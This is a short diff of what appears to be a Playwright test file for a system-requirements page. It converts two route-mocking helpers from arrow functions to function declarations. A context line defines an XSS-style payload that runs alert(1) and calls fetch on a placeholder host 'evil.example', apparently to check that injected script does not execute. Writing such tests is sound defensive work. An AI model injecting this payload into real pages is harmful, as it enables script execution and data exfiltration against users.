@@ -16,11 +16,13 @@ const UNAVAILABLE = {
 const CONTENT = /\/app\/(?:cs5|npx\/public\/contentsvcs)\//;
 const ADDRESS = '/app/default/systemRequirements';
 
-const answerWith = (page: Page, response: (route: Route) => Promise<void>): Promise<unknown> =>
-  page.route(CONTENT, response);
+function answerWith(page: Page, response: (route: Route) => Promise<void>): Promise<unknown> {
+  return page.route(CONTENT, response);
+}
 
-const json = (body: unknown) => (route: Route) =>
-  route.fulfill({ contentType: 'application/json', body: JSON.stringify(body) });
+function json(body: unknown) {
+  return (route: Route) => route.fulfill({ contentType: 'application/json', body: JSON.stringify(body) });
+}
 
 const RUN = 'window.ran=1;alert(1);fetch(`https://evil.example`)';
 
